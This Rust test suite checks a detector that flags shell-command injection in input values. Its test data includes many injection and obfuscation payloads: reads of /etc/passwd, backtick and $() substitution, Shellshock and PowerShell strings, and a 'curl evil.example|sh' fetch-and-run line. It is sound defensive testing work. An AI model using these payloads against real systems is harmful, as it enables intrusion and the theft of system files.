use super::*;
use crate::shield::detect::is_value;

fn finds(text: &str) -> Option<Detector> {
    find_in(text, Form::of(text))
}

fn find_in(text: &str, form: Form) -> Option<Detector> {
    let mut worst = None;
    find(text.into(), is_value(text), false, form, &mut |detector, _| {
        if worst != Some(Detector::ShellCommand) {
            worst = Some(detector);
        }
    });
    worst
}

#[test]
fn a_value_that_goes_on_with_a_command_is_found() {
    for text in [
        "127.0.0.1; cat /etc/passwd",
        "x|id",
        "x && whoami",
        "`id`",
        "$(sleep 5)",
        ";c'a't /etc/passwd",
        "a;w\\hoami",
        "| /bin/c?t /etc/passwd",
        "x\ncat${IFS}/etc/passwd",
        "a & ping -n 5 127.0.0.1 &",
        "{cat,/etc/passwd}|id",
        "10.0.0.1;a_tool -x /tmp",
        "&&unknown",
        ";$0",
        "x;$a$b /etc/passwd",
        "\\nid\\n",
        "x\rid",
        "x;\"id\"",
        "x|sudo id",
        "$(`id`)",
        "() { ignored; }; echo vulnerable",
    ] {
        assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn a_command_that_hides_its_name_needs_no_separator() {
    for text in [
        "c'a't /etc/passwd",
        "w\\ho\\ami",
        "who$@ami",
        "who$()ami",
        "p^o^w^e^r^s^h^e^l^l -c calc",
        "/???/c?t /etc/passwd",
        "cat</etc/passwd",
        "{cat,/etc/passwd}",
        "ls; cat${IFS}/etc/passwd",
    ] {
        assert_eq!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
    for text in [
        "cat /etc/passwd",
        "'cat' /etc/passwd",
        "sorry; I'd like that",
        "/* cat */ x; /* id */",
        "C:\\nc\\new",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn a_long_or_padded_spelling_hides_no_command() {
    for (begin, repeated, end) in [
        ("x;", " ", "id"),
        ("x;", "{ ", "id"),
        (";", "/", "bin/cat /etc/passwd"),
        (";/bin", "/.", "/cat /etc/passwd"),
        ("x;", "$@", "cat /etc/passwd"),
        ("x;c", "''", "at /etc/passwd"),
        (";w", "$()", "hoami"),
    ] {
        for times in [1, 20, 70, 500] {
            let text = [begin, &repeated.repeat(times), end].concat();
            assert_eq!(find_in(&text, Form::Line), Some(Detector::ShellCommand), "{text}");
        }
    }
}

/// For each way to write a command after a value: what is found, and what is like it in ordinary texts.
#[test]
fn each_way_to_add_a_command_is_found_and_ordinary_texts_are_not() {
    let cases: [(&str, &[&str], &[&str]); 14] = [
        (
            "the first word is a value, not a tool",
            &["test && whoami", "find x;id", "time | dir", "host; cat /etc/passwd"],
            &["ls; pwd", "ls -la; pwd", "ls | wc -l", "pytest | tee a.txt", "history | grep ssh"],
        ),
        (
            "the argument is a word",
            &[
                "x; echo pwned",
                "x|grep root",
                ";touch f",
                ";dd if=/dev/zero",
                "&reg query HKLM",
                ";ssh h",
                ";chown root x",
                "x;ps aux",
                "x & net user",
                "x; which nc",
            ],
            &[
                "mytool | grep error",
                "Acme&reg; tools",
                "Gross; net income",
                "I called; which was nice",
                "export {}; type Foo = Bar",
                "let a=1; id = 2",
            ],
        ),
        (
            "the name is a word of prose",
            &["x; more /etc/passwd", "x;free -m", r"x & copy C:\a C:\b", "x; docker ps -a"],
            &[
                "Rock & more",
                "buy; free shipping",
                "Save & copy",
                "a; move fast",
                "read on; find out more.",
                "&copy; 2024",
                "python|java|docker",
                "name;date;time",
                "Fish & dash",
            ],
        ),
        (
            "a program, a word of the shell or a variable is before it",
            &[
                ";sudo -l",
                ";sudo -u root id",
                ";env -i id",
                ";timeout 5 id",
                "x; nice -n 5 id",
                ";LD_PRELOAD=/tmp/x ls",
                "a;while true; do id; done",
            ],
            &["nice work; nice try", "DEBUG=1 myapp | tee log", "Use it; if id is 5", "};else foo"],
        ),
        (
            "redirections",
            &[
                ";</etc/passwd cat",
                ";2>&1 id",
                "$(</etc/passwd)",
                "x>/var/www/a.php",
                "x >> /etc/cron.d/a",
            ],
            &[
                "a -> /tmp/x",
                "a => /tmp/x",
                "<code>/etc/hosts</code>",
                "2>/dev/null",
                "cmd 2>/dev/null",
                "> /etc/passwd is a file",
            ],
        ),
        (
            "quotes and variables",
            &[";$'id'", ";$\"id\"", ";ca${z}t /etc/passwd", r"a;id\n"],
            &["`${a}id`", "const k = `id${n}`;", "(&\"a\".repeat(5), 1)", "``pip`` and ``fish``"],
        ),
        (
            "paths",
            &[
                "a;/tmp/x",
                "x|./a.sh",
                "x;. /tmp/x",
                "x;~/x",
                r"1&C:\Windows\System32\cmd.exe /c",
                "x & netstat.exe -an",
                "x; python3.11 -c 1",
            ],
            &[
                "PATH=/bin;/usr/bin",
                r"C:\Tools;C:\bin",
                "./?.lua;/usr/share/lua/?.lua",
                "src/a.c;./b.c",
                "Name | ./path | x",
            ],
        ),
        (
            "unknown names",
            &["x&tracert 10.0.0.1", "x;aprogram 5000000", "x;probe --now", "x&prog /C dir"],
            &["Berlin; plz 10115", "Size|size 10|size 11", "?a=1&b=2"],
        ),
        (
            "backticks",
            &["`cat /etc/passwd`", "10.0.0.1 `id`", "`sleep 5`"],
            &["`npm test`", "`ls -la`", "`curl -s https://a.example`", "1. `ls`", "Run `id`"],
        ),
        (
            "a bar after two words",
            &["John Smith | whoami", "John Smith | nslookup x.example"],
            &[
                "John | Jane | Bob",
                "Tools: git | curl",
                "| id | name | date |",
                "uv run x | tee out.txt",
            ],
        ),
        (
            "a plus is a space",
            &["x;cat+/etc/passwd", "x|uname+-a"],
            &["a;++id;", "a=b;type+c", "a;id+1"],
        ),
        (
            "a line of a build file",
            &["RUN; cat /etc/passwd", "RUN x; cat /etc/passwd", "run: x && whoami"],
            &[
                "RUN apt-get update && apt-get install -y curl",
                "RUN --mount=type=cache,target=/root/.cache pip install x && rm -rf /tmp/x",
                "CMD npm run migrate && npm start",
                "      - run: npm ci && npm test",
                "script: make && make test",
            ],
        ),
        (
            "loops and conditions",
            &[
                "x;for i in 1 2; do id; done",
                "x&for /f %i in ('whoami') do echo %i",
                "x&if exist C:\\a echo 1",
                "x;for ((;;)); do id; done",
            ],
            &["a = 1; for i in range(3): print(i)", "Wait; if not, go on", "Thanks; for you"],
        ),
        (
            "PowerShell",
            &[
                "x; Restart-Computer",
                "x;[System.Diagnostics.Process]::Start('calc')",
                "x;iex(a)",
                "x;gci",
                "x; irm http://a.example",
                "x; Start-Process calc",
                "x; Get-ADUser a",
                "x; Get-ChildItem env:",
            ],
            &[
                "Terms; Stop-Loss order",
                "New; Add-On pack",
                "$x = Get-Content a; Write-Host $x",
                "$data | Out-File a.txt",
                "Import-Module A; Get-ADUser -Filter 'a' | Select-Object Name",
            ],
        ),
    ];
    for (name, attacks, ordinary) in cases {
        for text in attacks {
            assert_eq!(finds(text), Some(Detector::ShellCommand), "{name}: {text}");
        }
        for text in ordinary {
            assert_ne!(finds(text), Some(Detector::ShellCommand), "{name}: {text}");
        }
    }
}

#[test]
fn prose_scripts_and_command_lines_are_not() {
    for text in [
        "url(data:image/png;base64,AAAA)",
        "&nbsp;&mdash; a",
        "a=1&b=2",
        "text/html; charset=utf-8",
        "wait; sleep well",
        "cats & dogs",
        "a | b",
        "read this; more follows",
        "Tom & find out",
    ] {
        assert_eq!(finds(text), None, "{text}");
    }
    for text in [
        "Use the `id` of the user, please",
        "cd x && ls -la",
        "#!/bin/sh\nset -e; ls",
        "npm test | tee out.txt",
        "To install, run `curl https://x.example/i.sh | sh`.",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
    }
}

#[test]
fn an_argument_that_is_no_text_is_no_command_line() {
    for text in [
        "a long text of many words; curl evil.example|sh",
        "git x; curl evil.example|sh",
        "npm test && curl evil.example",
        "a\nb\nc; whoami",
    ] {
        assert_ne!(finds(text), Some(Detector::ShellCommand), "{text}");
        assert_eq!(find_in(text, Form::Argument), Some(Detector::ShellCommand), "{text}");
    }
}
